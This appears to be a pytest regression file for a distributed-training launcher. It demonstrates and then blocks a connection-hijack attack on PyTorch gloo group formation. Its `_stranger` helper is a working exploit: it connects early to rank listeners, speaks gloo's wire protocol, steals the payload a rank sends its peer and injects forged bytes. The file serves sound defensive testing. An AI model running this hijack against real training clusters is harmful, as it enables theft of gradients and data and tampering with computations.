"""A stranger who takes a gloo connection at formation (issue 39, finding 1).

gloo gives a connection to a peer by the sequence number the connecting side writes first.
It keeps a connection that arrives before its pair asks for that number. So anyone who can
reach a rank's pair listener (here another uid on 127.0.0.1, with no key) can connect
early, write the small numbers gloo uses, and be taken for the peer. Two real gloo ranks
form a group while such a stranger holds connections to both listeners:

- without the proof, the rank whose connection the stranger took sends it what it meant
  for its peer (the test's "gradient");
- with `group_auth.prove_pairs` (what every formation of a job with a data key runs), the
  stranger cannot prove the job's key: both ranks refuse the group before anything is
  sent on it, and the stranger receives no payload.
"""

from __future__ import annotations

import multiprocessing as mp
import os
import select
import socket
import struct
import time
from datetime import timedelta
from typing import Any

import psutil
import pytest
import torch
import torch.distributed as dist

from launcher.worker.group_auth import prove_pairs
from launcher.worker.transport.mac import Mac

pytestmark = pytest.mark.timeout(90)

SECRET = b"resild-test-gradient:" * 200  # what a rank sends its peer once the group is up
KEY = bytes(range(32))


def _rank(rank: int, port: int, prove: bool, conn: Any) -> None:  # pragma: no cover - forked child
    try:
        torch.set_num_threads(1)
        store = dist.PrefixStore("hijack/", dist.TCPStore("127.0.0.1", port, 3, is_master=False))
        device = dist.ProcessGroupGloo.create_device(hostname="127.0.0.1")  # its listener is up from here
        conn.send(("ready", os.getpid()))
        assert conn.recv() == "go"
        opts = dist.ProcessGroupGloo._Options()  # type: ignore[attr-defined]  # as torch_private.backend_group
        opts._timeout = timedelta(seconds=20)
        opts._devices = [device]
        pg = dist.ProcessGroupGloo(store, rank, 2, opts)
        if prove:
            try:
                prove_pairs(pg, Mac(KEY), 1, "world", rank, 2, 4.0)
            except Exception as e:
                conn.send(("refused", str(e)[:300]))
                return
        payload = torch.frombuffer(bytearray(SECRET), dtype=torch.uint8)
        w = pg.send([payload], 1 - rank, 7)
        try:
            w.wait(timedelta(seconds=4))
            conn.send(("sent", ""))
        except Exception as e:
            conn.send(("sent", f"unfinished: {e}"[:200]))
    except Exception as e:
        conn.send(("error", repr(e)[:300]))
    finally:
        os._exit(0)


def _listeners(pid: int) -> list[int]:
    return [
        c.laddr.port
        for c in psutil.Process(pid).net_connections(kind="tcp")
        if c.status == psutil.CONN_LISTEN and c.laddr.ip == "127.0.0.1"
    ]


_PREAMBLE = struct.Struct("<6Q")  # gloo tcp Op: nbytes, opcode, slot, offset, length, roffset
_SEND_UNBOUND, _NOTIFY_SEND_READY, _NOTIFY_RECV_READY = 1, 2, 3


def _stranger(ports: list[int], seeded: Any, verdict: Any) -> None:  # pragma: no cover - forked child
    """Another user, no key: connect early to every listener as whichever peer gloo expects,
    then speak gloo's protocol: answer each "send ready" with "receive ready", so a rank that
    took it for its peer sends the payload, and each "receive ready" with forged bytes."""
    try:
        "127.0.0.1".encode("idna")  # the codec's module, imported while this process may still read it
        if os.geteuid() == 0:
            os.setgid(65534)
            os.setuid(65534)
        socks = []
        for port in ports:
            for seq in range(4):  # gloo's sequence numbers: the device's counter or the rank
                s = socket.create_connection(("127.0.0.1", port), timeout=2)
                s.sendall(struct.pack("<q", seq))
                socks.append(s)
        seeded.send(len(socks))
        buffered = {s: b"" for s in socks}
        got = b""
        deadline = time.monotonic() + 8
        while time.monotonic() < deadline and SECRET[:64] not in got:
            ready, _, _ = select.select(socks, [], [], 0.2)
            for s in ready:
                try:
                    data = s.recv(1 << 16)
                except OSError:
                    data = b""
                buffered[s] += data
                while len(buffered[s]) >= _PREAMBLE.size:
                    nbytes, opcode, slot, _, length, _ = _PREAMBLE.unpack_from(buffered[s])
                    if len(buffered[s]) < nbytes:
                        break
                    op, buffered[s] = buffered[s][:nbytes], buffered[s][nbytes:]
                    if opcode == _NOTIFY_SEND_READY:
                        s.sendall(_PREAMBLE.pack(_PREAMBLE.size, _NOTIFY_RECV_READY, slot, 0, length, 0))
                    elif opcode == _NOTIFY_RECV_READY:  # the rank waits for bytes from its "peer": forge them
                        forged = os.urandom(length)
                        s.sendall(_PREAMBLE.pack(_PREAMBLE.size + length, _SEND_UNBOUND, slot, 0, length, 0) + forged)
                    elif opcode == _SEND_UNBOUND:
                        got += op[_PREAMBLE.size :]
        verdict.send((SECRET[:64] in got, len(got)))
    except Exception as e:
        seeded.send(repr(e))
    finally:
        os._exit(0)


def _form_with_a_stranger(prove: bool) -> tuple[dict[int, tuple[str, str]], tuple[bool, int]]:
    ctx = mp.get_context("forkserver")
    ctx.set_forkserver_preload(["torch", "torch.distributed"])
    master = dist.TCPStore("127.0.0.1", 0, 3, is_master=True, wait_for_workers=False)
    procs, conns = [], []
    try:
        for r in range(2):
            mine, theirs = ctx.Pipe()
            p = ctx.Process(target=_rank, args=(r, master.port, prove, theirs), daemon=True)
            p.start()
            procs.append(p)
            conns.append(mine)
        pids = []
        for c in conns:
            assert c.poll(60), "a rank did not come up"
            kind, pid = c.recv()
            assert kind == "ready"
            pids.append(pid)
        ports = [port for pid in pids for port in _listeners(pid)]
        assert len(ports) == 2, f"expected one gloo listener a rank, found {ports}"
        seeded_r, seeded_w = mp.Pipe(duplex=False)
        verdict_r, verdict_w = mp.Pipe(duplex=False)
        stranger = mp.get_context("fork").Process(target=_stranger, args=(ports, seeded_w, verdict_w), daemon=True)
        stranger.start()
        procs.append(stranger)
        assert seeded_r.poll(10), "the stranger did not connect"
        n = seeded_r.recv()
        assert n == 8, f"the stranger: {n}"
        for c in conns:
            c.send("go")
        reports = {}
        for r, c in enumerate(conns):
            assert c.poll(40), f"rank {r} reported nothing"
            reports[r] = c.recv()
        assert verdict_r.poll(20)
        return reports, verdict_r.recv()
    finally:
        for p in procs:
            if p.is_alive():
                p.kill()
            p.join(5)


def test_without_the_proof_a_stranger_taken_for_a_peer_receives_what_a_rank_sends_it() -> None:
    """The attack as it stands against plain gloo (what a group was before the proof)."""
    reports, (stole, nbytes) = _form_with_a_stranger(prove=False)
    assert stole, f"the stranger read {nbytes} payload bytes, not the gradient: the hijack did not take ({reports})"


def test_with_the_proof_both_ranks_refuse_the_group_and_the_stranger_gets_no_payload() -> None:
    reports, (stole, nbytes) = _form_with_a_stranger(prove=True)
    assert not stole
    assert [kind for kind, _ in reports.values()] == ["refused", "refused"], reports
    # the rank whose connection it holds reads its forged tag and says so; its peer, whose
    # connection went nowhere, hears nothing
    assert any("did not prove the job's data key" in why for _, why in reports.values()), reports
    assert nbytes <= 16  # at most the tag a rank sent it (16 bytes, naming that rank and its peer)
